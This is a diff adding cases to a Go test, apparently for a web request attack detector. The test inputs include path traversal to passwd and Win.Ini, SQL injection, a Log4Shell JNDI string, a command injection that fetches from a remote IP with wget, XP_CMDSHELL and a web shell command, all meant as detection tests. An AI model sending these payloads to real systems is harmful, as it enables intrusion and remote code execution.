@@ -104,6 +104,12 @@ func TestAttackSyntax(t *testing.T) {
 	f("/a?file=..%2f..%2fetc%2fpasswd", true)
 	f("/a?q=1%20UNION%20ALL%20SELECT%201", true)
 	f("/a?x=${jndi:ldap://203.0.113.9/a}", true)
+	f("/static/..%5C..%5CWindows%5CWin.Ini", true)
+	f("/read?f=/ETC/PASSWD", true)
+	f("/cgi?x=1;wget%20http://203.0.113.9/a", true)
+	f("/q?x=XP_CMDSHELL", true)
+	f("/up/a.php?cmd=id", true)
 	f("/search?q=trade+union+history", false)
 	f("/docs/sleep.html", false)
+	f("/list?sort=id&lang=id", false)
 }
